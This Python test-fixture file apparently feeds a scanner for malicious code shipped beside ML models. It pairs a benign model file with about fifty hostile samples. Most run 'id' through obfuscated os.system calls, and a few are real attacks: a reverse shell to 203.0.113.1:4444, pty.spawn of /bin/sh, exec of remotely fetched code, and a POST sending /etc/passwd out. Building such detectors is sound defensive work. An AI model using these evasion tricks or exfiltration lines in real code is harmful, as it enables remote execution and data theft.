# ruff: noqa: E501  (each sample on one line)
"""Python files as they lie beside models: honest ones, and what attackers write."""

PLAIN = b'''"""A model."""
import math
from typing import Optional

import torch
from torch import nn
from transformers import PretrainedConfig, PreTrainedModel

from .configuration_tiny import TinyConfig


class Attention(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.q = nn.Linear(config.hidden_size, config.hidden_size)
        self.scale = 1 / math.sqrt(config.hidden_size)

    def forward(self, x: torch.Tensor, mask: Optional[torch.Tensor] = None) -> torch.Tensor:
        return torch.softmax(self.q(x) * self.scale, dim=-1)


class TinyModel(PreTrainedModel):
    config_class = TinyConfig

    def __init__(self, config):
        super().__init__(config)
        self.layers = nn.ModuleList([Attention(config) for _ in range(config.layers)])
        self.post_init()

    def load_extra(self, path):
        with open(path) as file:
            return file.read()

    def run(self):
        self.model.eval()
        return getattr(self, "config")


TinyModel.register_for_auto_class("AutoModel")
'''

HOSTILE: dict[str, bytes] = {
    "os-system": b"import os\nos.system('id')\n",
    "from-import": b"from os import system as s\ns('id')\n",
    "star-import": b"from os import *\nsystem('id')\n",
    "subprocess-in-init": b"import subprocess\nclass M:\n    def __init__(self):\n        subprocess.run(['id'])\n",
    "subprocess-in-forward": b"import subprocess as sp\nclass M:\n    def forward(self, x):\n        sp.Popen('id', shell=True)\n",
    "exec-base64": b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
    "eval-alias": b"run = eval\nrun('1+1')\n",
    "dunder-import": b"__import__('os').system('id')\n",
    "import-built": b"__import__('o' + 's').system('id')\n",
    "import-module": b"import importlib\nimportlib.import_module('sub' 'process').run('id')\n",
    "getattr-built": b"import os\ngetattr(os, 'sys' + 'tem')('id')\n",
    "getattr-reversed": b"import os\ngetattr(os, 'metsys'[::-1])('id')\n",
    "getattr-decoded": b"import os, base64\ngetattr(os, base64.b64decode('c3lzdGVt').decode())('id')\n",
    "getattr-unknown": b"import os, sys\ngetattr(os, sys.argv[0])('id')\n",
    "builtins-dict": b"import builtins\nbuiltins.__dict__['ex' + 'ec']('1')\n",
    "globals-subscript": b"globals()['__builtins__']['eval']('1')\n",
    "sys-modules": b"import sys\nsys.modules['os'].system('id')\n",
    "decorator": b"import os\n@os.system\ndef f(): pass\n",
    "handed-on": b"import os\nlist(map(os.system, ['id']))\n",
    "stored": b"import os\nclass A:\n    go = os.system\nA.go('id')\n",
    "lambda": b"import os\n(lambda: os.system('id'))()\n",
    "default-argument": b"import os\ndef f(x=os.system('id')): pass\n",
    "socket": b"import socket, os\ns = socket.socket(); s.connect(('203.0.113.1', 4444)); os.dup2(s.fileno(), 0)\n",
    "ctypes": b"import ctypes\nctypes.CDLL(None).system(b'id')\n",
    "marshal": b"import marshal\nexec(marshal.loads(b'x'))\n",
    "pty": b"import pty\npty.spawn('/bin/sh')\n",
    "urlopen-exec": b"import urllib.request\nexec(urllib.request.urlopen('http://203.0.113.1/x').read())\n",
    "network-on-import": b"import requests\nrequests.post('http://203.0.113.1', data=open('/etc/passwd').read())\n",
    "alias-shadowed": b"import os as x\nif False:\n    import math as x\nx.system('id')\n",
    "shadow-first": b"import math as x\nimport os as x\nx.system('id')\n",
    "called-function": b"import os\ndef start():\n    os.popen('id')\nstart()\n",
    "cookie": b"# -*- coding: utf-7 -*-\n+AGkAbQBwAG8AcgB0- os\nos.system('id')\n",
    "pickle": b"import pickle\npickle.loads(b'x')\n",
    "code-type": b"import types\ntypes.FunctionType(compile('1', 'x', 'exec'), {})()\n",
    "reduce": b"import os\nclass A:\n    def __reduce__(self):\n        return (os.system, ('id',))\n",
    "walrus": b"import os\n(f := os.system)('id')\n",
    "list-index": b"import os\n[os.system][0]('id')\n",
    "thread": b"import threading, os\nthreading.Thread(target=os.system, args=('id',)).start()\n",
    "atexit": b"import atexit, os\natexit.register(os.system, 'id')\n",
    "asyncio": b"import asyncio\nasyncio.run(asyncio.create_subprocess_shell('id'))\n",
    "multiprocessing": b"import multiprocessing\nmultiprocessing.Process(target=exec, args=('1',)).start()\n",
    "getattribute": b"import os\nos.__getattribute__('system')('id')\n",
    "dictionary-get": b"import os\nos.__dict__.get('sys' + 'tem')('id')\n",
    "vars-get": b"import os\nvars(os).get('system')('id')\n",
    "modules-get": b"import sys\nsys.modules.get('os').system('id')\n",
    "globals-get": b"import os\nglobals().get('eval')('1')\n",
    "methodcaller": b"import os, operator\noperator.methodcaller('system', 'id')(os)\n",
    "attrgetter": b"import os, operator\noperator.attrgetter('system')(os)('id')\n",
    "hidden-module": b"import importlib, sys\nimportlib.import_module(sys.argv[1]).system('id')\n",
    "subclasses": b"().__class__.__base__.__subclasses__()[-1]('id')\n",
}
